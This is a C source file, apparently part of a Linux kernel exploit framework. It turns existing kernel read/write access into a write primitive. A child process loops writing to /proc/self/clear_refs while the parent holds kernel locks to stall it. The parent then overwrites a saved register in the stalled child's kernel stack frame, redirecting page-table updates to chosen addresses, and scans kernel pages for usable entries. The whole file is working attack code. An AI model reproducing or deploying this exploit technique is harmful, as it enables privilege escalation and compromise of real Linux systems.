// SPDX-License-Identifier: GPL-2.0-only
/* A process that clears accessed bits waits for the lock of its table, with the place in a register on its stack. */
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "clear_refs.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define OWN_PART	0x5a
#define HELPER_CPU	1
#define LATER		400000	/* microseconds */
#define WAITS		"queued_spin_lock_slowpath"
#define WAITS_LENGTH	0x300
#define TABLE_LOCK	40
#define FRAME_R15	0
#define WORDS		512

static struct {
	volatile bool ready;
	volatile unsigned int asked, done;
	volatile uint64_t lock, place;
} *shared;

static pid_t child;

static void clear_refs_for_ever(void)
{
	volatile char *own = mmap((void *)user_room(OWN_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	int fd = open("/proc/self/clear_refs", O_WRONLY);
	const struct itimerval once = { { 0, 0 }, { 0, LATER } };
	struct slot slot;

	stay_on_cpu(HELPER_CPU);
	heed_alarms();
	own[0] = 1;
	if (fd < 0 || kwalk((uint64_t)own, LEVEL_PTE, 0, &slot))
		_exit(1);
	shared->place = slot.slot;
	shared->lock = page_of(slot.slot) + TABLE_LOCK;
	shared->ready = true;
	for (;;) {
		usleep(1000);
		if (shared->done == shared->asked)
			continue;
		own[0] = 1;
		setitimer(ITIMER_REAL, &once, NULL);
		(void)!write(fd, "1", 1);
		shared->done++;
	}
}

bool clear_refs_start(void)
{
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	child = fork();
	if (!child)
		clear_refs_for_ever();
	while (!shared->ready)
		if (waitpid(child, NULL, WNOHANG))
			return false;
	return true;
}

struct aim {
	uint64_t place, at;
	int changed;
	bool stays;
};

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct aim *aim = data;

	if (frame[FRAME_R15] != shared->place)
		return;
	kwrite64(at + FRAME_R15 * sizeof(*frame), aim->place);
	aim->at = at;
	aim->changed++;
}

/* The child waits for the lock of its table, and its timer for that of its signals. */
int clear_refs_at(uint64_t place)
{
	struct aim aim = { place, 0, 0, false };
	uint64_t lock, function = ksymbol(WAITS);
	struct task task;
	int i;

	if (!function || ktask(child, &task))
		return -1;
	lock = find_signal_lock(&task);
	if (!lock)
		return -2;
	set_lock(shared->lock, true);
	shared->asked++;
	usleep(LATER / 4);
	set_lock(lock, true);
	usleep(LATER * 2);
	find_frames(&task, function, WAITS_LENGTH, change_frame, &aim);
	usleep(LATER / 4);
	aim.stays = kread64(aim.at) == aim.place;
	set_lock(lock, false);
	usleep(LATER / 4);
	set_lock(shared->lock, false);
	for (i = 0; i < 200 && shared->done != shared->asked; i++)
		usleep(5000);
	return aim.stays ? aim.changed : -3;
}

/* It must look like an entry that is present, of one of the first pages. */
static bool is_usable(uint64_t seen)
{
	return (seen & PTE_PRESENT) && (seen & PTE_ACCESSED) && !(seen & 1 << 9) && seen >> 28 == 0;
}

uint64_t clear_refs_word(uint64_t page)
{
	uint64_t words[WORDS];
	int i;

	if (kread(page, words, sizeof(words)))
		return 0;
	for (i = 0; i < WORDS; i++)
		if (is_usable(words[i]))
			return page + i * sizeof(*words);
	return 0;
}
#endif
